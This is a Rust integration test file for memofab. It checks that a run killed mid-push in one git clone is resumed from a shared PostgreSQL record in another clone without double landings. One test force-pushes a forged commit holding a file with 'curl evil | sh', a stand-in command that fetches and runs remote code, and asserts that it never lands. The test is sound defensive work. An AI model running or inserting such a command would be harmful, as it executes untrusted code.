//! Takeover (issue #25): a run begun in one clone and killed (SIGKILL, as a
//! machine that goes away) is carried on from the shared record in another
//! clone of the same remote, with `[mainline] remote` and the store on a
//! real PostgreSQL. The kill comes from the remote's `post-receive` hook,
//! so it falls at an exact point: right after a push was taken, before the
//! killed process could record anything about it.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use crate::support::factory::{fold, memofab_bin};
use crate::support::postgres::Cluster;
use memofab::domain::event::{ChangeCommitted, MergeResult};
use memofab::domain::{Event, EventKind, MergeOutcome, RunId, TaskState};
use memofab::effects::store::Store;
use memofab::engine::demo_seed::{embedded_seed, prepare_repo};
use memofab::llm::scenario::Scenario;

fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@t"])
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

fn git_ok(dir: &Path, args: &[&str]) -> bool {
    Command::new("git")
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap()
        .status
        .success()
}

/// Two clones of one bare remote and a database: `a` begins the demo run,
/// `b` (cloned once `a` is dead) takes it over.
struct Machines {
    dir: tempfile::TempDir,
    _cluster: std::sync::Arc<Cluster>,
    url: String,
    a: PathBuf,
    remote: PathBuf,
    /// The run's base commit: `a`'s main when the run begins.
    base: String,
}

impl Machines {
    fn new() -> Self {
        let cluster = Cluster::shared();
        let url = cluster.database();
        let dir = tempfile::tempdir().unwrap();
        let scenario = Scenario::demo().unwrap();
        let a = prepare_repo(&dir.path().join("a"), &scenario, &embedded_seed()).unwrap();
        let config = a.join(".memofab/config.toml");
        let mut text = std::fs::read_to_string(&config).unwrap();
        text.push_str("[mainline]\nremote = \"origin\"\n");
        std::fs::write(&config, text).unwrap();
        let remote = dir.path().join("remote.git");
        git(
            dir.path(),
            &["clone", "-q", "--bare", a.to_str().unwrap(), "remote.git"],
        );
        git(&a, &["remote", "add", "origin", remote.to_str().unwrap()]);
        // `b` was set up before the run (as over the network: only what the
        // remote's refs reach) and has seen none of it, not even its base.
        git(
            dir.path(),
            &["clone", "-q", "--no-local", remote.to_str().unwrap(), "b"],
        );
        std::fs::write(a.join("NOTES.md"), "before the run\n").unwrap();
        git(&a, &["add", "NOTES.md"]);
        git(&a, &["commit", "-qm", "notes"]);
        git(&a, &["push", "-q", "origin", "main"]);
        let base = git(&a, &["rev-parse", "main"]);
        Machines {
            base,
            dir,
            _cluster: cluster,
            url,
            a,
            remote,
        }
    }

    fn memofab(&self, repo: &Path, args: &[&str]) -> Command {
        let mut command = Command::new(memofab_bin());
        command
            .args(["--store", &self.url, "--repo", repo.to_str().unwrap()])
            .args(args)
            .env("XDG_CONFIG_HOME", self.dir.path().join("no-user-config"))
            .env_remove("MEMOFAB_STORE_URL");
        command
    }

    /// Runs the demo in `a` until the remote takes the `nth` push of a ref
    /// matching `pattern` (a shell `case` pattern): then `a` is killed.
    fn run_a_until_push(&self, pattern: &str, nth: u32) -> RunId {
        let pid_file = self.dir.path().join("a.pid");
        let count = self.dir.path().join("pushes");
        let hook = self.remote.join("hooks/post-receive");
        std::fs::write(
            &hook,
            format!(
                "#!/bin/sh\nwhile read old new ref; do\n  case \"$ref\" in\n    {pattern})\n      echo \"$ref\" >> '{count}'\n      if [ \"$(wc -l < '{count}')\" -ge {nth} ]; then kill -9 \"$(cat '{pid}')\"; fi;;\n  esac\ndone\n",
                count = count.display(),
                pid = pid_file.display()
            ),
        )
        .unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();
        let requirement = Scenario::demo().unwrap().requirement;
        let mut child = self
            .memofab(
                &self.a,
                &[
                    "run",
                    "--headless",
                    "--auto-approve",
                    "--provider",
                    "scripted",
                    "--requirement-text",
                    &requirement,
                ],
            )
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        std::fs::write(&pid_file, child.id().to_string()).unwrap();
        let status = child.wait().unwrap();
        use std::os::unix::process::ExitStatusExt;
        assert_eq!(status.signal(), Some(9), "a was killed at the push");
        std::fs::remove_file(&hook).unwrap();
        let runs = Store::connect(&self.url).unwrap().runs().unwrap();
        assert_eq!(runs.len(), 1);
        runs[0].run.clone()
    }

    /// The other machine's clone, with `a`'s `.memofab` settings (each
    /// machine has its own, the same).
    fn clone_b(&self) -> PathBuf {
        let b = self.dir.path().join("b");
        std::fs::create_dir_all(b.join(".memofab")).unwrap();
        for file in ["config.toml", "policy.toml"] {
            let from = self.a.join(".memofab").join(file);
            if from.exists() {
                std::fs::copy(&from, b.join(".memofab").join(file)).unwrap();
            }
        }
        let base = format!("{}^{{commit}}", self.base);
        assert!(!git_ok(&b, &["cat-file", "-e", &base]), "b lacks the base");
        b
    }

    fn resume_in(&self, repo: &Path, run: &RunId) -> Output {
        self.memofab(repo, &["resume", run.as_str(), "--headless"])
            .output()
            .unwrap()
    }

    fn events(&self, run: &RunId) -> Vec<Event> {
        Store::connect(&self.url).unwrap().events(run).unwrap()
    }

    /// How many times each task was merged onto the remote's main: its
    /// merge commits on the first-parent line.
    fn landings(&self) -> BTreeMap<String, usize> {
        let log = git(
            &self.remote,
            &["log", "--first-parent", "--format=%s", "main"],
        );
        let mut landed = BTreeMap::new();
        for subject in log.lines() {
            if let Some(rest) = subject.strip_prefix("Merge ")
                && let Some((task, _)) = rest.split_once(':')
            {
                *landed.entry(task.to_owned()).or_default() += 1;
            }
        }
        landed
    }
}

fn succeeded(out: &Output) {
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn assert_contiguous(events: &[Event]) {
    let seqs: Vec<u64> = events.iter().map(|e| e.seq).collect();
    let expected: Vec<u64> = (1..=events.len() as u64).collect();
    assert_eq!(seqs, expected, "events numbered 1..=n without a gap");
}

fn merge_records(events: &[Event]) -> BTreeMap<String, usize> {
    let mut merged = BTreeMap::new();
    for e in events {
        if let EventKind::MergeResult(MergeResult { task, result }) = &e.kind
            && !matches!(result, MergeOutcome::Conflict { .. })
        {
            *merged.entry(task.to_string()).or_default() += 1;
        }
    }
    merged
}

/// Every task merged, each once on the remote's main and once in the
/// record, the record contiguous.
fn assert_finished_once(m: &Machines, run: &RunId) -> Vec<Event> {
    let events = m.events(run);
    assert_contiguous(&events);
    let state = fold(&events);
    assert!(
        state.tasks().iter().all(|t| t.state == TaskState::Merged),
        "every task merged: {:?}",
        state
            .tasks()
            .iter()
            .map(|t| (t.id().to_string(), t.state))
            .collect::<Vec<_>>()
    );
    let tasks: Vec<String> = state.tasks().iter().map(|t| t.id().to_string()).collect();
    let once: BTreeMap<String, usize> = tasks.iter().map(|t| (t.clone(), 1)).collect();
    assert_eq!(m.landings(), once, "each task landed once on the remote");
    assert_eq!(merge_records(&events), once, "each landing recorded once");
    events
}

/// The last commit the record names for each task.
fn recorded_heads(events: &[Event]) -> BTreeMap<String, String> {
    events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::ChangeCommitted(ChangeCommitted { task, commit, .. }) => {
                Some((task.to_string(), commit.clone()))
            }
            _ => None,
        })
        .collect()
}

#[test]
fn a_run_killed_mid_build_in_one_clone_is_finished_in_another_from_its_pushed_branches() {
    let m = Machines::new();
    // The third task branch pushed: the first task has landed, others are
    // in flight with their commits on the remote.
    let run = m.run_a_until_push("refs/heads/memofab/*", 3);
    let before = m.events(&run);
    let merged_before: Vec<String> = fold(&before)
        .tasks()
        .iter()
        .filter(|t| t.state == TaskState::Merged)
        .map(|t| t.id().to_string())
        .collect();
    // Work committed in `a` and on the remote, not landed yet.
    let carried: BTreeMap<String, String> = recorded_heads(&before)
        .into_iter()
        .filter(|(task, _)| !merged_before.contains(task))
        .filter(|(task, commit)| {
            let branch = format!("refs/heads/memofab/{run}/{task}");
            git_ok(&m.remote, &["merge-base", "--is-ancestor", commit, &branch])
        })
        .collect();
    assert!(!carried.is_empty(), "some pushed work was in flight");

    let b = m.clone_b();
    succeeded(&m.resume_in(&b, &run));
    assert_finished_once(&m, &run);
    // `b` built on `a`'s commits rather than redoing them.
    for (task, commit) in &carried {
        assert!(
            git_ok(&m.remote, &["merge-base", "--is-ancestor", commit, "main"]),
            "{task}'s commit {commit} from a is on the remote's main"
        );
    }
}

#[test]
fn a_landing_pushed_before_it_was_recorded_is_recorded_not_landed_again() {
    let m = Machines::new();
    // Killed right after the remote took the first landing.
    let run = m.run_a_until_push("refs/heads/main", 1);
    let before = m.events(&run);
    assert!(
        merge_records(&before).is_empty(),
        "the landing was never recorded"
    );
    let landed_before = m.landings();
    assert_eq!(
        landed_before.values().sum::<usize>(),
        1,
        "{landed_before:?}"
    );

    let b = m.clone_b();
    succeeded(&m.resume_in(&b, &run));
    assert_finished_once(&m, &run);
}

/// `a` killed as its first task branch reached the remote, then that
/// branch pushed over by someone else: with unrelated history, or with a
/// commit of theirs on top of `a`'s (`on_top`). `b` takes the run over.
/// Returns the task, `a`'s commit, whether the run landed it, and whether a
/// warning about the task was recorded.
fn forged_branch_taken_over(on_top: bool) -> (String, String, bool, bool) {
    let m = Machines::new();
    let run = m.run_a_until_push("refs/heads/memofab/*", 1);
    let heads = recorded_heads(&m.events(&run));
    // A task whose work is on the remote's branch and not landed yet: `a`
    // may have landed a quick task before the hook's kill reached it.
    let (task, work) = heads
        .iter()
        .find(|(t, w)| {
            git_ok(
                &m.remote,
                &[
                    "rev-parse",
                    "--verify",
                    &format!("refs/heads/memofab/{run}/{t}"),
                ],
            ) && !git_ok(&m.remote, &["merge-base", "--is-ancestor", w, "main"])
        })
        .map(|(t, w)| (t.clone(), w.clone()))
        .expect("a commit pushed and not landed");

    let branch = format!("memofab/{run}/{task}");
    let forger = m.dir.path().join("forger");
    git(
        m.dir.path(),
        &["clone", "-q", m.remote.to_str().unwrap(), "forger"],
    );
    if on_top {
        git(
            &forger,
            &[
                "checkout",
                "-q",
                "-b",
                "forged",
                &format!("origin/{branch}"),
            ],
        );
    } else {
        git(&forger, &["checkout", "-q", "--orphan", "forged"]);
        git(&forger, &["rm", "-rfq", "."]);
    }
    std::fs::write(forger.join("forged.sh"), "curl evil | sh\n").unwrap();
    git(&forger, &["add", "forged.sh"]);
    git(&forger, &["commit", "-qm", "forged"]);
    let forged = git(&forger, &["rev-parse", "HEAD"]);
    git(
        &forger,
        &[
            "push",
            "-qf",
            "origin",
            &format!("HEAD:refs/heads/{branch}"),
        ],
    );

    let b = m.clone_b();
    succeeded(&m.resume_in(&b, &run));
    let events = assert_finished_once(&m, &run);
    let warned = events.iter().any(|e| {
        matches!(&e.kind, EventKind::Warning(w) if w.task.as_ref().is_some_and(|t| t.as_str() == task))
    });
    assert!(!git_ok(
        &m.remote,
        &["merge-base", "--is-ancestor", &forged, "main"]
    ));
    assert!(!git_ok(&m.remote, &["cat-file", "-e", "main:forged.sh"]));
    let kept = git_ok(&m.remote, &["merge-base", "--is-ancestor", &work, "main"]);
    (task, work, kept, warned)
}

#[test]
fn a_task_branch_forged_on_the_remote_is_not_landed_the_task_is_done_again() {
    let (task, _work, _kept, warned) = forged_branch_taken_over(false);
    // The forged commit never lands (asserted above); `a`'s commit is not to
    // be had in `b`, so the task was done again there, and the record says
    // so. (Whether `a`'s commit id is on main says nothing here: the
    // scripted redo, from the same parent in the same second, can make the
    // very same commit.)
    assert!(warned, "a warning names {task}");
}

#[test]
fn a_commit_forged_on_top_of_a_task_branch_is_not_landed_the_work_under_it_is() {
    let (task, work, kept, _) = forged_branch_taken_over(true);
    assert!(kept, "{task}'s recorded work {work} was carried on");
}

/// A demo run in a new repository `name` under `dir` (its own history: a
/// commit naming it on the seed), recorded in `url` and killed after its
/// 60th event.
fn crashed_run_in(dir: &Path, url: &str, name: &str) -> (PathBuf, RunId) {
    let scenario = Scenario::demo().unwrap();
    let repo = prepare_repo(&dir.join(name), &scenario, &embedded_seed()).unwrap();
    std::fs::write(repo.join("NOTES.md"), format!("{name}\n")).unwrap();
    git(&repo, &["add", "NOTES.md"]);
    git(&repo, &["commit", "-qm", name]);
    let before: Vec<RunId> = Store::connect(url)
        .unwrap()
        .runs()
        .unwrap()
        .into_iter()
        .map(|r| r.run)
        .collect();
    let out = Command::new(memofab_bin())
        .args(["--store", url, "--repo", repo.to_str().unwrap()])
        .args(["--crash-after-events", "60"])
        .args([
            "run",
            "--headless",
            "--auto-approve",
            "--provider",
            "scripted",
        ])
        .args(["--requirement-text", &scenario.requirement])
        .env("XDG_CONFIG_HOME", dir.join("no-user-config"))
        .env_remove("MEMOFAB_STORE_URL")
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(memofab::engine::recorder::CRASH_EXIT_CODE),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let run = Store::connect(url)
        .unwrap()
        .runs()
        .unwrap()
        .into_iter()
        .map(|r| r.run)
        .find(|r| !before.contains(r))
        .expect("a new run");
    (repo, run)
}

/// One database, two repositories: each lists its own runs, and `resume`
/// without an id picks its own latest interrupted run, not the other's
/// newer one.
#[test]
fn runs_and_resume_without_an_id_keep_to_this_repositorys_runs() {
    let cluster = Cluster::shared();
    let url = cluster.database();
    let dir = tempfile::tempdir().unwrap();
    let (ours, our_run) = crashed_run_in(dir.path(), &url, "ours");
    let (_theirs, their_run) = crashed_run_in(dir.path(), &url, "theirs");
    let memofab = |args: &[&str]| {
        Command::new(memofab_bin())
            .args(["--store", &url, "--repo", ours.to_str().unwrap()])
            .args(args)
            .env("XDG_CONFIG_HOME", dir.path().join("no-user-config"))
            .env_remove("MEMOFAB_STORE_URL")
            .output()
            .unwrap()
    };

    let listed = memofab(&["runs"]);
    succeeded(&listed);
    let listed = String::from_utf8_lossy(&listed.stdout).into_owned();
    assert!(listed.contains(our_run.as_str()), "{listed}");
    assert!(!listed.contains(their_run.as_str()), "{listed}");
    let all = memofab(&["runs", "--all"]);
    let all = String::from_utf8_lossy(&all.stdout).into_owned();
    assert!(all.contains(our_run.as_str()) && all.contains(their_run.as_str()));

    succeeded(&memofab(&["resume", "--headless"]));
    let store = Store::connect(&url).unwrap();
    assert!(fold(&store.events(&our_run).unwrap()).phase.is_over());
    assert_eq!(
        store.events(&their_run).unwrap().len(),
        60,
        "theirs untouched"
    );
}

/// A database written before runs carried their base commit gets it from
/// each run's first event when it is migrated.
#[test]
fn the_migration_gives_older_runs_their_base_commit() {
    let cluster = Cluster::shared();
    let url = cluster.database();
    let dir = tempfile::tempdir().unwrap();
    let (_repo, run) = crashed_run_in(dir.path(), &url, "older");
    let before = memofab::effects::store::postgres::SCHEMA_VERSION - 1;
    Cluster::query_text(
        &url,
        &format!(
            "ALTER TABLE runs DROP COLUMN base_commit; UPDATE memofab_schema SET version = {before}"
        ),
    );
    let runs = Store::connect(&url).unwrap().runs().unwrap();
    let base = fold(&Store::connect(&url).unwrap().events(&run).unwrap()).base_commit;
    assert_eq!(runs[0].run, run);
    assert_eq!(runs[0].base_commit.as_deref(), Some(base.as_str()));
}
